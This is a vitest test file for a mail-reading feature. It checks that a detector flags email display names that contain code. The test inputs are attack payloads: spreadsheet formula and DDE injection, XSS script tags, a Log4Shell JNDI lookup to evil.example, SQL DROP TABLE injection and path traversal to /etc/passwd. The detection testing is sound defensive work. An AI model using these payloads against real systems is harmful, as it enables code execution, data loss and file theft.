import { describe, expect, test } from 'vitest';
import { hasCodeForName } from '#domain/reading/flags/code-in-names.ts';

const named = (name: string) =>
  hasCodeForName({ from: { address: 'jan@postvak.example', name }, replyTo: [] });

describe('a name', () => {
  test.each([
    '=HYPERLINK("http://evil.example";"x")',
    "=cmd|' /C calc'!A0",
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    ['$', '{jndi:ldap://evil.example/a}'].join(''),
    "Jan'; DROP TABLE cases;--",
    '../../etc/passwd',
  ])('is code: %s', (name) => {
    expect(named(name)).toBe(true);
  });

  test.each([
    'Jan Peeters',
    'Zoë O’Neill-D’Haenens',
    '+32 Jan',
    '@jan',
    'Jan <3 Els',
    'Drop & Table bv',
    '-Jan-',
  ])('is a name: %s', (name) => {
    expect(named(name)).toBe(false);
  });
});
